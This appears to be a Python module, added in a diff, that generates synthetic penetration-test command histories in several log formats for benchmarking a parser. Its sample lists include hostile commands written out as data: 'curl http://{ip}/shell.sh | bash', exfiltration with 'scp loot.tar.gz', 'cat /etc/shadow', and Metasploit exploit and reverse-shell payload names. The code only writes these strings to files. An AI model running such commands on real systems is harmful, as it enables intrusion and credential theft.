@@ -0,0 +1,379 @@
+"""Writes synthetic histories for testing and benchmarking
+
+Generates large, realistic-looking sessions in each format the loaders
+read: msf_prompt (OffPromptSession logs), bash_hist, generic_csv_hist,
+generic_json_hist (JSON Lines), win_event_log_csv, pickle and session.  Output is deterministic for a given seed, so
+benchmark runs on different machines or versions parse the same data.
+
+Usage (from the hsp folder):
+
+    python -m utils.synth -n 1000000 -o /tmp/hsp_synth
+"""
+
+import csv
+import datetime as dt
+import json
+from optparse import OptionParser
+import os
+import pickle
+import random
+
+from command import Command
+from commandtable import CommandTable
+import sessionfile
+
+START = dt.datetime(2019, 10, 20, 17, 0, 0)
+
+USERS = ["stark", "rogers", "romanoff", "banner", "barton", "root"]
+HOSTS = [f"host{i}" for i in range(1, 9)] + ["kali", "attack-box", "dc01"]
+MSF_MODULES = [
+    "auxiliary/scanner/ssh/ssh_login",
+    "auxiliary/scanner/smb/smb_version",
+    "auxiliary/scanner/portscan/tcp",
+    "exploit/multi/handler",
+    "exploit/windows/smb/ms17_010_eternalblue",
+    "exploit/windows/vnc/realvnc_client",
+    "exploit/unix/ftp/vsftpd_234_backdoor",
+    "post/multi/recon/local_exploit_suggester",
+]
+PAYLOADS = [
+    "windows/meterpreter_reverse_https",
+    "windows/x64/meterpreter/reverse_tcp",
+    "linux/x86/shell_reverse_tcp",
+]
+SHELL_COMMANDS = [
+    "ls -la",
+    "cd /etc",
+    "cat /etc/passwd",
+    "cat /etc/shadow",
+    "whoami",
+    "id",
+    "uname -a",
+    "ps aux",
+    "netstat -antp",
+    "ifconfig",
+    "sudo -l",
+    "find / -perm -4000 -type f 2>/dev/null",
+    "grep -ri password /var/www",
+    "nmap -sV -p- {ip}",
+    "ssh {user}@{ip}",
+    "scp loot.tar.gz {user}@{ip}:/tmp",
+    "curl http://{ip}/shell.sh | bash",
+    "vi notes.txt",
+    "history",
+]
+EVENTS = [
+    (4624, "An account was successfully logged on."),
+    (4625, "An account failed to log on."),
+    (4672, "Special privileges assigned to new logon."),
+    (4688, "A new process has been created."),
+    (4720, "A user account was created."),
+    (7045, "A service was installed in the system."),
+]
+
+FORMATS = [
+    "msf_prompt",
+    "bash_hist",
+    "generic_csv_hist",
+    "generic_json_hist",
+    "win_event_log_csv",
+    "pickle",
+    "session",
+]
+
+
+def _ip(rand):
+    return f"10.{rand.randrange(4)}.{rand.randrange(256)}.{rand.randrange(1, 255)}"
+
+
+def _msf_command(rand):
+    """Return a random msfconsole command and its result
+    """
+    kind = rand.random()
+    if kind < 0.25:
+        module = rand.choice(MSF_MODULES)
+        return f"use {module}", ""
+    if kind < 0.55:
+        option, val = rand.choice(
+            [
+                ("RHOSTS", _ip(rand)),
+                ("LHOST", _ip(rand)),
+                ("LPORT", str(rand.randrange(1024, 65535))),
+                ("username", rand.choice(USERS)),
+                ("payload", rand.choice(PAYLOADS)),
+            ]
+        )
+        return f"set {option} {val}", f"{option} => {val}\n"
+    if kind < 0.8:
+        lines = [f"[*] Started reverse TCP handler on {_ip(rand)}:4444"]
+        for _ in range(rand.randrange(1, 12)):
+            lines.append(
+                f"[{rand.choice('*+-')}] {_ip(rand)}:22 - "
+                f"{rand.choice(['Success', 'Failed', 'Connecting', 'Scanned'])}: "
+                f"'{rand.choice(USERS)}:{rand.getrandbits(32):08x}'"
+            )
+        return "run", "\n".join(lines) + "\n"
+    if kind < 0.9:
+        return (
+            "sessions -l",
+            "\nActive sessions\n===============\n\nNo active sessions.\n",
+        )
+    return rand.choice(["show options", "back", "info"]), ""
+
+
+def _shell_command(rand):
+    """Return a random shell command and its result
+    """
+    command = rand.choice(SHELL_COMMANDS).format(ip=_ip(rand), user=rand.choice(USERS))
+    lines = rand.randrange(0, 6)
+    result = "".join(
+        f"{rand.getrandbits(64):016x}  output line {i}\n" for i in range(lines)
+    )
+    return command, result
+
+
+def synthetic_commands(count, seed=0, start=START, msf=False):
+    """Yield count Commands with increasing times
+
+    Commands come a few seconds apart on average, from a handful of users
+    and hosts; about one in a hundred is flagged.
+
+    Parameters
+    ==========
+    count : int
+        number of Commands
+    seed : int
+        seed for the random choices; the same seed gives the same Commands
+    start : datetime.datetime
+        time of the first Command
+    msf : bool
+        make msfconsole commands instead of shell commands
+
+    Yields
+    ======
+    command : command.Command
+    """
+    rand = random.Random(seed)
+    time = start
+    make = _msf_command if msf else _shell_command
+    for _ in range(count):
+        time += dt.timedelta(seconds=int(rand.expovariate(1 / 5)))
+        command, result = make(rand)
+        yield Command(
+            time,
+            user=rand.choice(USERS),
+            hostUUID=rand.choice(HOSTS),
+            command=command,
+            result=result,
+            flagged=rand.random() < 0.01,
+        )
+
+
+def write_msf_prompt(filename, count, seed=0):
+    """Write an msf_prompt.OffPromptSession log of count commands
+
+    Every so often a session start or warning record is written between a
+    command and its result, as the real logs have.
+    """
+    rand = random.Random(seed + 1)
+    sep = "=" * 19
+    with open(filename, "w") as outfi:
+        for command in synthetic_commands(count, seed, msf=True):
+            stamp = command.time.strftime("%Y-%m-%d %H:%M:%S")
+            millis = rand.randrange(1000)
+            outfi.write(
+                f"{sep}\n{stamp},{millis:03d}\n"
+                f"[COMMAND][USER: {command.user}]\n+ {command.command}\n"
+            )
+            noise = rand.random()
+            if noise < 0.02:
+                outfi.write(
+                    f"{sep}\n{stamp},{millis:03d}\n"
+                    "Starting MsfRpcClient, MsfRpcConsole, OffPromptSession\n"
+                )
+            elif noise < 0.04:
+                outfi.write(
+                    f"{sep}\n{stamp},{millis:03d}\n"
+                    f"<<< Warning {_ip(rand)} is not on allowed list\n"
+                )
+            outfi.write(f"{sep}\n{stamp},{millis:03d}\n[RESULT]\n{command.result}")
+
+
+def write_bash_hist(filename, count, seed=0):
+    """Write a bash history (as printed by `history`) of count commands
+    """
+    with open(filename, "w") as outfi:
+        for num, command in enumerate(synthetic_commands(count, seed), 1):
+            outfi.write(f"{num:5d}  {command.command}\n")
+
+
+def write_generic_csv(filename, count, seed=0):
+    """Write a generic_csv_hist file, with a header row, of count commands
+    """
+    with open(filename, "w", newline="") as outfi:
+        writer = csv.writer(outfi)
+        writer.writerow(["Time", "Host", "User", "Command", "Result", "Flagged"])
+        for command in synthetic_commands(count, seed):
+            writer.writerow(
+                [
+                    command.time.strftime("%Y-%m-%d %H:%M:%S"),
+                    command.hostUUID,
+                    command.user,
+                    command.command,
+                    command.result,
+                    command.flagged,
+                ]
+            )
+
+
+def write_json_lines(filename, count, seed=0):
+    """Write a generic_json_hist file of count commands, one object per line
+    """
+    with open(filename, "w") as outfi:
+        for command in synthetic_commands(count, seed):
+            outfi.write(
+                json.dumps(
+                    {
+                        "time": command.time.strftime("%Y-%m-%d %H:%M:%S"),
+                        "host": command.hostUUID,
+                        "user": command.user,
+                        "command": command.command,
+                        "result": command.result,
+                        "flagged": command.flagged,
+                    }
+                )
+                + "\n"
+            )
+
+
+def write_win_event_log_csv(filename, count, seed=0):
+    """Write a Windows event log of count events as PowerShell's Export-Csv does
+    """
+    rand = random.Random(seed + 1)
+    fields = [
+        "EventID",
+        "MachineName",
+        "Index",
+        "EntryType",
+        "Message",
+        "Source",
+        "TimeGenerated",
+        "TimeWritten",
+        "UserName",
+    ]
+    with open(filename, "w", newline="") as outfi:
+        outfi.write("#TYPE System.Diagnostics.EventLogEntry\n")
+        writer = csv.writer(outfi, quoting=csv.QUOTE_ALL)
+        writer.writerow(fields)
+        for index, command in enumerate(synthetic_commands(count, seed), 1):
+            event, message = rand.choice(EVENTS)
+            stamp = command.time.strftime("%m/%d/%Y %I:%M:%S %p")
+            writer.writerow(
+                [
+                    event,
+                    command.hostUUID,
+                    index,
+                    "SuccessAudit",
+                    f"{message}\r\n\r\nSubject:\r\n\tAccount Name:\t{command.user}",
+                    "Microsoft-Windows-Security-Auditing",
+                    stamp,
+                    stamp,
+                    f"CORP\\{command.user}" if rand.random() < 0.7 else "",
+                ]
+            )
+
+
+def write_pickle(filename, count, seed=0):
+    """Write a pickled list of count Commands
+
+    The whole list is built in memory first, as the pickle format requires.
+    """
+    with open(filename, "wb") as outfi:
+        pickle.dump(list(synthetic_commands(count, seed)), outfi)
+
+
+def write_session(filename, count, seed=0):
+    """Write a sessionfile of count Commands
+    """
+    sessionfile.save(CommandTable(synthetic_commands(count, seed)), filename)
+
+
+WRITERS = {
+    "msf_prompt": write_msf_prompt,
+    "bash_hist": write_bash_hist,
+    "generic_csv_hist": write_generic_csv,
+    "generic_json_hist": write_json_lines,
+    "win_event_log_csv": write_win_event_log_csv,
+    "pickle": write_pickle,
+    "session": write_session,
+}
+
+
+def generate(folder, count, formats=None, seed=0):
+    """Write a synthetic history in each format to folder
+
+    Files are named synth_<count>.<format> and are reused if they already
+    exist.
+
+    Parameters
+    ==========
+    folder : str
+        folder to write the histories in
+    count : int
+        number of commands in each history
+    formats : list[str]
+        typehints of the formats to write; None for all of FORMATS
+    seed : int
+        seed for the random choices
+
+    Returns
+    =======
+    files : dict
+        history filename (in folder) -> histfile_typehint
+    """
+    os.makedirs(folder, exist_ok=True)
+    files = {}
+    for fmt in formats or FORMATS:
+        histfile = f"synth_{count}.{fmt}"
+        filename = os.path.join(folder, histfile)
+        if not os.path.exists(filename):
+            tmp = filename + ".tmp"
+            WRITERS[fmt](tmp, count, seed)
+            os.replace(tmp, filename)
+        files[histfile] = fmt
+    return files
+
+
+def parse_count(val):
+    """Parse a count such as 10000, 10k or 1M
+    """
+    val = val.strip().lower()
+    scale = {"k": 10 ** 3, "m": 10 ** 6}.get(val[-1:], 1)
+    if scale != 1:
+        val = val[:-1]
+    return int(float(val) * scale)
+
+
+def main():
+    p = OptionParser(usage="%prog [options]")
+    p.add_option(
+        "-n", dest="count", default="10k", help="commands per history, e.g. 10k or 1M"
+    )
+    p.add_option("-o", dest="folder", default="synth", help="folder to write to")
+    p.add_option(
+        "-f",
+        dest="formats",
+        default=",".join(FORMATS),
+        help="comma-separated formats to write",
+    )
+    p.add_option("-s", dest="seed", type="int", default=0, help="random seed")
+    o, a = p.parse_args()
+
+    files = generate(o.folder, parse_count(o.count), o.formats.split(","), o.seed)
+    for histfile, fmt in files.items():
+        size = os.path.getsize(os.path.join(o.folder, histfile))
+        print(f"{histfile}:{fmt}  {size / 2 ** 20:.1f} MiB")
+
+
+if __name__ == "__main__":
+    main()